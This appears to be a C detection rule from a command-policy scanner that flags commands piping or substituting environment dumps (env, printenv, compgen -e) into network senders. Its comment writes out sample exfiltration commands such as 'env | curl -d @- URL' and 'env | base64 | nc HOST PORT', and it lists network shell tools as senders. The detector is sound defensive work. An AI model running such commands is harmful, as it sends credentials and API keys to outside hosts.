/* The environment sent over the network: its variables hold the session's tokens and keys
 * (cloud credentials, API keys, the agent's own), so a program that prints them (env,
 * printenv, export -p, set, declare -p, compgen -e) feeding one that sends (curl, wget,
 * nc, ssh ...) is secret-access, however it is fed: piped into it (env | curl -d @- URL,
 * through encoders: env | base64 | nc HOST PORT) or substituted into its words (curl -d
 * "$(env)" URL).  Printing them to the terminal, a file or a filter (env | grep PATH)
 * stays allowed; a redirection to /dev/tcp is a reverse-shell already. */
#define _GNU_SOURCE
#include <string.h>

#include "policy/pol.h"

static bool is_sender(const char *p)
{
        static const char *const s[] = {
                "curl", "wget",  "nc",       "ncat", "netcat", "socat",  "telnet",      "ssh",    "scp",
                "sftp", "ftp",   "tftp",     "http", "https",  "xh",     "httpie",      "curlie", "openssl",
                "mail", "mailx", "sendmail", "mutt", "rsync",  "aria2c", "lwp-request", "POST",   NULL};
        return uw_in(p, s);
}

/* A command that prints the environment's variables (every one of them, or printenv's). */
static bool dumps_env(const struct scmd *c)
{
        char **a = c->argv.v;
        size_t n = c->argv.n;
        const char *p = base_name(a[0]);
        if (!strcmp(p, "printenv"))
                return true;
        bool opts_only = true; /* no operand: env with no command, declare with no name */
        for (size_t k = 1; k < n && opts_only; k++)
                opts_only = a[k][0] == '-' || (!strcmp(p, "env") && strchr(a[k], '='));
        if (!strcmp(p, "env") || !strcmp(p, "export") || !strcmp(p, "declare") || !strcmp(p, "typeset"))
                return opts_only;
        if (!strcmp(p, "set"))
                return n == 1;
        if (!strcmp(p, "compgen"))
                return n >= 2 && (!strcmp(a[1], "-e") || !strcmp(a[1], "-v"));
        return false;
}

/* Command k, judged before idx, feeds idx: an earlier stage of its pipeline, or a
 * substitution in its words (its text inside idx's, which has one). */
static bool feeds(struct scan *sc, size_t k, size_t idx)
{
        const struct scmd *c = &sc->cmds[k], *me = &sc->cmds[idx];
        if (me->pipe_id >= 0 && c->pipe_id == me->pipe_id && c->stage < me->stage)
                return true;
        if (me->offset < 0 || c->offset < me->offset || !me->text || !c->text)
                return false;
        size_t end = (size_t)me->offset + strlen(me->text);
        return (size_t)c->offset < end && (strstr(me->text, "$(") || strchr(me->text, '`')) &&
               strstr(me->text, c->text);
}

void tool_env_leak(struct scan *sc, size_t idx)
{
        const struct scmd *me = &sc->cmds[idx];
        if (!me->argv.n || !is_sender(base_name(me->argv.v[0])))
                return;
        for (size_t k = 0; k < idx; k++) {
                const struct scmd *c = &sc->cmds[k];
                if (!c->argv.n || c->argv.v[0][0] == '@' || !dumps_env(c) || !feeds(sc, k, idx))
                        continue;
                uw_finding(sc, idx, "@env-leak",
                           "sends the environment's variables (tokens, keys) over the network");
                return;
        }
}
